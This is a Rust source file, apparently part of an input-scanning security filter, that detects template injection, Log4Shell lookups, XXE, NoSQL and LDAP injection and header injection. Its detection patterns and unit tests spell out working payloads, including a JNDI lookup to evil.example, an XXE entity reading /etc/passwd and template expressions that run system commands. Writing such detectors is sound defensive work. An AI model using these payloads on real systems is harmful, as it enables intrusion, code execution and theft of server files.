//! The smaller languages: template expressions, NoSQL operators, LDAP filters, XML entities,
//! Log4j lookups and header injection.

use std::sync::LazyLock;

use crate::literals::List;
use crate::rules;
use crate::shape::Shape;
use crate::{Hits, Location, NextClose, Patterns, View};

pub(crate) fn scan(input: View<'_>, location: Location, hits: &mut Hits) {
    let (view, shape) = (input.text, input.shape);
    if shape.any(const { Shape::bytes(b"{<$#") }) {
        template(view, shape, hits);
        xml(view, shape, hits);
    }
    if shape.has(b'$') {
        log4shell(view, hits);
        nosql_operator(view, hits);
    }
    // Every filter the LDAP check reports holds an assertion's `=` or an empty `(&)`, `(|)`,
    // and one of its markers, which is looked for before the value is compacted.
    let ldap_shaped = shape.has(b'(')
        && shape.has(b')')
        && shape.any(const { Shape::bytes(b"=&|") })
        && ldap_marker_across_spaces(view);
    let script_shaped =
        shape.any(const { Shape::bytes(b";&|") }) && input.found.has(List::ScriptMarker);
    if ldap_shaped || script_shaped {
        let mut buffer = std::mem::take(&mut hits.text);
        let compact = without_whitespace(view, shape, &mut buffer);
        if ldap_shaped {
            ldap(compact, view, hits);
        }
        if script_shaped {
            nosql_javascript(compact, view, hits);
        }
        hits.text = buffer;
    }
    if shape.any(Shape::LINE_BREAK) && location.in_url() {
        crlf(view, hits);
    }
}

/// Template expressions that compute or reach into objects: `{{7*7}}`, `{{config.items()}}`,
/// `${7*7}`, `#{...}`, `<%= ... %>`, `{% ... %}` with calls, FreeMarker directives.
fn template(view: &str, shape: Shape, hits: &mut Hits) {
    let bytes = view.as_bytes();
    for (open, close, needs) in TEMPLATE_DELIMITERS {
        // An opening needs all its kinds of byte in the value.
        if !needs.within(shape) {
            continue;
        }
        // Only the last opening before a close is read (`{{ a {{7*7}}` is `7*7`), and a close
        // found once answers for every opening before it: linear in the value.
        let mut from = 0;
        let mut closes = NextClose::new(bytes, close.as_bytes());
        while let Some(off) = crate::find(&bytes[from..], open.as_bytes()) {
            let start = from + off;
            let inner_start = start + open.len();
            from = inner_start;
            let inner_end = closes.at_or_after(inner_start);
            let closed = inner_end.is_some();
            let inner_end = inner_end.unwrap_or(bytes.len());
            if crate::find(&bytes[inner_start..inner_end], open.as_bytes()).is_some() {
                continue;
            }
            if template_code(open, &view[inner_start..inner_end], closed) {
                hits.add(&rules::SSTI_EXPRESSION, view, start);
                return;
            }
        }
    }
    for (marker, needs) in TEMPLATE_MARKERS {
        // Each marker needs all its kinds of byte in the value.
        if !needs.within(shape) {
            continue;
        }
        if let Some(pos) = crate::find(bytes, marker.as_bytes()) {
            hits.add(&rules::SSTI_EXPRESSION, view, pos);
            return;
        }
    }
}

/// Template delimiters, opening and closing, each with the kinds of byte its opening is made of.
const TEMPLATE_DELIMITERS: [(&str, &str, Shape); 9] = {
    const fn delimiters(
        open: &'static str,
        close: &'static str,
    ) -> (&'static str, &'static str, Shape) {
        (open, close, Shape::bytes(open.as_bytes()))
    }
    [
        delimiters("{{", "}}"),
        delimiters("${", "}"),
        delimiters("#{", "}"),
        delimiters("<%=", "%>"),
        delimiters("<%", "%>"),
        delimiters("{%", "%}"),
        delimiters("*{", "}"),
        delimiters("@(", ")"),
        delimiters("[[", "]]"),
    ]
};

/// Template directives and engine internals, each with the kinds of byte it is made of.
const TEMPLATE_MARKERS: [(&str, Shape); 9] = {
    const fn marker(text: &'static str) -> (&'static str, Shape) {
        (text, Shape::bytes(text.as_bytes()))
    }
    [
        marker("<#assign"),
        marker("<#list"),
        marker("[#assign"),
        marker("freemarker.template"),
        marker("?new()"),
        marker("#set("),
        marker("$class.inspect"),
        marker("th:text"),
        marker("__${"),
    ]
};

/// Whether `needle` occurs in `text` right after one of the bytes in `before`.
fn occurs_after(text: &str, needle: &str, before: &[u8]) -> bool {
    text.match_indices(needle)
        .any(|(i, _)| i > 0 && before.contains(&text.as_bytes()[i - 1]))
}

/// Whether the inside of a template delimiter is code rather than a placeholder name.
fn template_code(open: &str, inner: &str, closed: bool) -> bool {
    let inner = inner.trim();
    if inner.is_empty() || inner.len() > 2048 {
        return false;
    }
    let dunder = inner.contains("__");
    let call = inner.contains('(') && inner.contains(')');
    let arithmetic = inner
        .split(['*', '+', '-', '/'])
        .filter(|p| !p.trim().is_empty())
        .count()
        >= 2
        && inner.bytes().any(|b| matches!(b, b'*' | b'+' | b'/'))
        && inner
            .bytes()
            .all(|b| b.is_ascii_digit() || b" *+-/'\"".contains(&b));
    let reach = [
        "config",
        "self",
        "request",
        "settings",
        "app.",
        "env",
        "class",
        "system",
        "runtime",
        "getclass",
        "os.",
        "lipsum",
        "cycler",
        "joiner",
        "namespace",
        "range",
        "_self",
        "dump",
    ]
    .iter()
    .any(|w| inner.starts_with(w) || occurs_after(inner, w, b".|"));
    let filter = inner.contains("|attr")
        || inner.contains("|filter")
        || inner.contains("|join")
        || inner.contains("|map");
    match open {
        "{{" | "[[" => {
            closed && (dunder || call || arithmetic || reach || filter || inner.contains('['))
        }
        "${" | "#{" | "*{" => {
            closed && (dunder || call || arithmetic || reach) && !inner.starts_with("jndi:")
        }
        "<%=" | "<%" => dunder || call || reach || arithmetic,
        "{%" => (dunder || call) && closed,
        "@(" => call || dunder,
        _ => false,
    }
}

/// `${jndi:ldap://...}` and its obfuscations (`${${lower:j}ndi:`, `${${::-j}${::-n}di:`).
fn log4shell(view: &str, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let Some(start) = crate::find(bytes, b"${") else {
        return;
    };
    // Keep the letters nested lookups spell: `${lower:j}` -> `j`, `${::-n}` -> `n`,
    // `${env:NaN:-d}` -> `d`.
    let mut spelled = String::new();
    let mut i = start;
    while i < bytes.len() && spelled.len() < 64 {
        if bytes[i..].starts_with(b"${") {
            i += 2;
            let rest = &view[i..];
            let lookup_end = rest.find(['}', '$']).unwrap_or(rest.len());
            if let Some(default) = rest[..lookup_end].find(":-") {
                i += default + 2;
            } else if let Some(colon) = rest[..lookup_end].find(':')
                && matches!(&rest[..colon], "lower" | "upper")
            {
                i += colon + 1;
            }
            continue;
        }
        if bytes[i] != b'}' {
            spelled.push(bytes[i] as char);
        }
        i += 1;
    }
    let lookup = [
        "jndi:", "env:", "sys:", "java:", "ctx:", "k8s:", "docker:", "main:", "bundle:", "spring:",
    ];
    if lookup
        .iter()
        .any(|l| spelled.starts_with(l) || occurs_after(&spelled, l, b":"))
        || spelled.replace(':', "").contains("jndi")
    {
        hits.add(&rules::LOG4SHELL_LOOKUP, view, start);
    }
}

/// XML that declares entities or a DTD: the prerequisite for XXE and billion-laughs.
fn xml(view: &str, shape: Shape, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let markup = shape.has(b'<');
    if markup {
        for marker in ["<!doctype", "<!entity", "<!element", "<!attlist"] {
            if let Some(pos) = crate::find(bytes, marker.as_bytes()) {
                let rest = &view[pos..];
                if marker != "<!doctype"
                    || rest.contains('[')
                    || rest.contains("system")
                    || rest.contains("public")
                {
                    hits.add(&rules::XXE_DOCTYPE, view, pos);
                    return;
                }
            }
        }
    }
    let declaration = if markup {
        crate::find(bytes, b"<?xml").or_else(|| crate::find(bytes, b"<![cdata["))
    } else {
        None
    };
    if let Some(pos) = declaration {
        hits.add(&rules::XXE_XML_DECL, view, pos);
    } else if shape.has(b'%')
        && let Some(pos) = crate::find(bytes, b"%")
    {
        // A parameter-entity reference: `%xxe;`.
        let rest = &bytes[pos + 1..];
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if name > 0
            && rest.get(name) == Some(&b';')
            && rest[..name].iter().any(u8::is_ascii_alphabetic)
        {
            hits.add(&rules::XXE_XML_DECL, view, pos);
        }
    }
}

const MONGO_OPERATORS: &[&str] = &[
    "ne",
    "eq",
    "gt",
    "gte",
    "lt",
    "lte",
    "in",
    "nin",
    "regex",
    "where",
    "exists",
    "or",
    "and",
    "nor",
    "not",
    "expr",
    "function",
    "accumulator",
    "elemmatch",
    "all",
    "size",
    "type",
    "mod",
    "text",
    "jsonschema",
    "comment",
    "lookup",
    "unionwith",
    "merge",
    "out",
];

/// `{"$ne": null}`, `user[$ne]=x`, `$where: '1 == 1'`.
fn nosql_operator(view: &str, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'$', &bytes[from..]) {
        let at = from + off;
        from = at + 1;
        let before_ok = at == 0
            || matches!(
                bytes[at - 1],
                b'{' | b'[' | b',' | b'"' | b'\'' | b' ' | b'('
            );
        if !before_ok {
            continue;
        }
        let name_len = bytes[at + 1..]
            .iter()
            .take_while(|b| b.is_ascii_alphabetic())
            .count();
        let name = &view[at + 1..at + 1 + name_len];
        let after = bytes.get(at + 1 + name_len);
        let after_ok = after.is_none_or(|b| matches!(b, b']' | b':' | b'"' | b'\'' | b' '));
        if after_ok && MONGO_OPERATORS.contains(&name) {
            // A bare word like `$in` in prose needs the structure around it.
            let structured =
                at > 0 || after.is_some_and(|b| matches!(b, b']' | b':' | b'"' | b'\''));
            if structured {
                hits.add(&rules::NOSQLI_OPERATOR, view, at);
                return;
            }
        }
    }
}

/// Longest whitespace-free view read, in characters (ASCII) or bytes.
const MAX_COMPACT: usize = 4096;

/// 1 for each byte the compaction keeps, 0 for the ASCII whitespace `char::is_whitespace`
/// accepts: a load where the comparisons are two branches per byte.
static KEPT_IN_COMPACT: [u8; 256] = {
    let mut table = [1u8; 256];
    let mut b = 0;
    while b < 256 {
        if crate::is_whitespace_byte(b as u8) {
            table[b] = 0;
        }
        b += 1;
    }
    table
};

/// The value without whitespace, at most 4096 characters, for languages that ignore it: the
/// value itself when it has none, else written into `buffer`.
fn without_whitespace<'a>(view: &'a str, shape: Shape, buffer: &'a mut String) -> &'a str {
    let spaced = shape.any(Shape::MAY_BE_WHITESPACE);
    if !spaced && view.len() <= MAX_COMPACT {
        return view;
    }
    buffer.clear();
    if !shape.any(Shape::NON_ASCII) {
        // Every byte is written and the end moves past it unless it is one of the ASCII
        // characters `char::is_whitespace` accepts: no branch on the bytes. Read in pieces
        // until enough is written.
        let mut compact = std::mem::take(buffer).into_bytes();
        let mut written = 0;
        for piece in view.as_bytes().chunks(256) {
            if written >= MAX_COMPACT {
                break;
            }
            compact.resize(written + piece.len(), 0);
            for &b in piece {
                compact[written] = b;
                written += usize::from(KEPT_IN_COMPACT[usize::from(b)]);
            }
        }
        compact.truncate(written.min(MAX_COMPACT));
        // ASCII bytes of the view, so always text.
        *buffer = String::from_utf8(compact).unwrap_or_default();
    } else {
        buffer.extend(
            view.chars()
                .filter(|c| !c.is_whitespace())
                .take(MAX_COMPACT),
        );
    }
    buffer
}

const NOSQL_SCRIPT_MARKERS: &[&str] = &[
    "this.password",
    "this.passwordzz",
    ";return",
    "db.",
    "while(",
    "sleep(",
    "==",
    "||1",
    "&&this.",
];

/// What the script markers are made of before compaction, which joins tokens across spaces
/// but makes no word and no JavaScript operator (`= =` is not `==`): most values with a `;`
/// or `&` are prose or query strings and hold none of these.
pub(crate) const NOSQL_SCRIPT_PARTS: &[&str] =
    &["this", "return", "db", "while", "sleep", "==", "||", "&&"];

static NOSQL_SCRIPT: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(NOSQL_SCRIPT_MARKERS));

/// JavaScript injected into a MongoDB `$where` or map-reduce: `'; return true; var x='`,
/// `' && this.password.match(/.*/)//`, `db.users.find()`.
fn nosql_javascript(compact: &str, view: &str, hits: &mut Hits) {
    if !NOSQL_SCRIPT.is_match(compact.as_bytes()) {
        return;
    }
    for &marker in NOSQL_SCRIPT_MARKERS {
        if let Some(pos) = compact.find(marker) {
            let strong = match marker {
                "db." => {
                    compact[pos..].contains('(')
                        && (pos == 0 || !compact.as_bytes()[pos - 1].is_ascii_alphanumeric())
                }
                "==" => {
                    compact.starts_with("||")
                        || compact.contains("'=='")
                        || compact.contains("||1==")
                }
                ";return" => {
                    compact[..pos].ends_with(['\'', '"'])
                        || compact[..pos].ends_with('0')
                        || pos == 0
                        || compact[..pos].contains('\'')
                }
                "sleep(" | "while(" => compact[..pos].contains(['\'', '"', ';']),
                _ => true,
            };
            if strong {
                hits.add(&rules::NOSQLI_JS, view, 0);
                return;
            }
        }
    }
}

/// Whether the value without whitespace would hold where one filter closes and another opens,
/// `)(`, or where a compound filter starts, `(|`, `(&`, `(!`: the two bytes with only
/// whitespace between them.
fn ldap_marker_across_spaces(view: &str) -> bool {
    let bytes = view.as_bytes();
    let mut from = 0;
    while let Some(off) = memchr::memchr2(b'(', b')', &bytes[from..]) {
        let at = from + off;
        from = at + 1;
        // Whitespace as `without_whitespace` removes it; `(` and `)` are ASCII, so `from`
        // is a character boundary.
        let next = view[from..].chars().find(|c| !c.is_whitespace());
        let opens_another = match bytes[at] {
            b')' => next == Some('('),
            _ => matches!(next, Some('|' | '&' | '!')),
        };
        if opens_another {
            return true;
        }
    }
    false
}

/// Closing an LDAP filter and opening another: `*)(uid=*))(|(uid=*`, `admin)(&)`,
/// `*(|(mail=*))`, `admin*)((|userPassword=*)`; or opening the empty `(&)` (always true) or
/// `(|)` that the application's own closing `)` completes: `*)(&`.
fn ldap(compact: &str, view: &str, hits: &mut Hits) {
    let b = compact.as_bytes();
    if compact.contains("(&)")
        || compact.contains("(|)")
        || compact.ends_with(")(&")
        || compact.ends_with(")(|")
    {
        hits.add(&rules::LDAPI_FILTER, view, 0);
        return;
    }
    for i in 0..b.len().saturating_sub(2) {
        // `)(` closes the application's filter and opens the attacker's; `(|(` and `(&(`
        // open a compound one. Either way an attribute assertion must follow.
        let next = if b[i] == b')' && b[i + 1] == b'(' {
            i + 2
        } else if b[i] == b'(' && matches!(b[i + 1], b'|' | b'&' | b'!') && b[i + 2] == b'(' {
            i + 3
        } else {
            continue;
        };
        if ldap_assertion(&b[next..]) {
            hits.add(&rules::LDAPI_FILTER, view, 0);
            return;
        }
    }
}

/// `attr=`, `attr~=`, `attr>=`, `attr<=`, after the openings of nested filters (`|(`, `&(`,
/// `!(`, and the stray `(` or missing one of `((|attr=`, which lenient servers read too).
fn ldap_assertion(rest: &[u8]) -> bool {
    // Bounded, so a run of openings costs no more than these few bytes at each `)(`.
    const MAX_OPENINGS: usize = 6;
    let openings = rest
        .iter()
        .take(MAX_OPENINGS)
        .take_while(|&&c| matches!(c, b'(' | b'|' | b'&' | b'!'))
        .count();
    let rest = &rest[openings..];
    let name = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b';'))
        .count();
    name > 0 && matches!(&rest[name..], [b'=', ..] | [b'~' | b'>' | b'<', b'=', ..])
}

/// A line break followed by a header: response splitting and header injection.
fn crlf(view: &str, hits: &mut Hits) {
    let bytes = view.as_bytes();
    let mut from = 0;
    while let Some(off) = memchr::memchr2(b'\r', b'\n', &bytes[from..]) {
        let at = from + off;
        let mut i = at;
        while i < bytes.len() && matches!(bytes[i], b'\r' | b'\n') {
            i += 1;
        }
        // A run of line breaks is read once, whatever its length.
        let breaks = &bytes[at..i];
        from = i;
        if crate::find(breaks, b"\r\n\r\n").is_some()
            || breaks.ends_with(b"\n\n") && bytes.get(i) == Some(&b'<')
        {
            hits.add(&rules::CRLF_HEADER, view, at);
            return;
        }
        while i < bytes.len() && matches!(bytes[i], b' ' | b'\t') {
            i += 1;
        }
        let name = bytes[i..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-')
            .count();
        if name > 0 && bytes.get(i + name) == Some(&b':') {
            hits.add(&rules::CRLF_HEADER, view, at);
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Location;
    use crate::shape::Shape;
    use crate::test_support::{families, families_at};

    proptest::proptest! {
        /// The ASCII fast path drops what `char::is_whitespace` drops and keeps at most
        /// `MAX_COMPACT` characters, as the path for other text does.
        #[test]
        fn compacting_drops_whitespace_and_keeps_the_first_characters(
            view in "[ a-c\t\n\r\x0b\x0c(|=]{0,600}", repeat in 1usize..12
        ) {
            let view = view.repeat(repeat);
            let mut buffer = String::new();
            let compact = super::without_whitespace(&view, Shape::of(&view), &mut buffer);
            let expected: String = view
                .chars()
                .filter(|c| !c.is_whitespace())
                .take(super::MAX_COMPACT)
                .collect();
            proptest::prop_assert_eq!(compact, expected);
        }
    }

    #[test]
    fn the_smaller_languages_are_found() {
        for (attack, family) in [
            ("{{7*7}}", "ssti"),
            // The innermost opening before the close is the expression.
            ("{{ a {{7*7}}", "ssti"),
            ("${x ${y ${7*7}", "ssti"),
            ("{{config.items()}}", "ssti"),
            ("${7*7}", "ssti"),
            ("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"),
            ("<%= system('id') %>", "ssti"),
            (
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
                "ssti",
            ),
            ("${jndi:ldap://evil.example/a}", "log4shell"),
            ("${${lower:j}ndi:${lower:l}dap://x/a}", "log4shell"),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "log4shell"),
            (
                "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                "xxe",
            ),
            ("{\"$ne\": null}", "nosqli"),
            ("[$ne]=1", "nosqli"),
            ("true, $where: '1 == 1'", "nosqli"),
            ("'; return true; var x='", "nosqli"),
            // Spaced, in values the one-pass literal search reads (they hold `.` or `(`).
            ("x'; return db.users.find(); var y='", "nosqli"),
            ("' && this.password.match(/.*/)//", "nosqli"),
            ("'; sleep (5000); var z='", "nosqli"),
            ("*)(uid=*))(|(uid=*", "ldapi"),
            ("admin)(&)", "ldapi"),
            // Whitespace between a filter's close and the next opening.
            ("*) (uid=*))( |(uid=*", "ldapi"),
            ("admin)\t( & )", "ldapi"),
            ("*)\u{2028}(uid=*", "ldapi"),
            ("admin*)((|userPassword=*)", "ldapi"),
            ("*)(&", "ldapi"),
        ] {
            assert!(
                families(attack, 1).contains(&family),
                "missed {family}: {attack}"
            );
        }
        assert!(families_at("x\r\nSet-Cookie: a=b", Location::QueryValue, 1).contains(&"crlf"));
        assert!(
            families_at("%0d%0aLocation:%20http://evil", Location::Header, 1).contains(&"crlf")
        );
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for benign in [
            "{{name}}",
            "Hello {{ user }}",
            "costs $5 or $10",
            "{% $SENDER_FULL_NAME %} BLAH",
            "price in $ (dollars)",
            "(see above)",
            "f(x) = (a)(b)",
            "terms (a)(&b) apply",
            "100% sure",
            "${HOME}",
        ] {
            assert!(
                families(benign, 1).is_empty(),
                "false positive: {benign} {:?}",
                families(benign, 1)
            );
        }
        // A line break in a body's text is prose, not a header.
        assert!(
            !families_at("Dear team,\nNote: see below", Location::BodyValue, 1).contains(&"crlf")
        );
    }
}
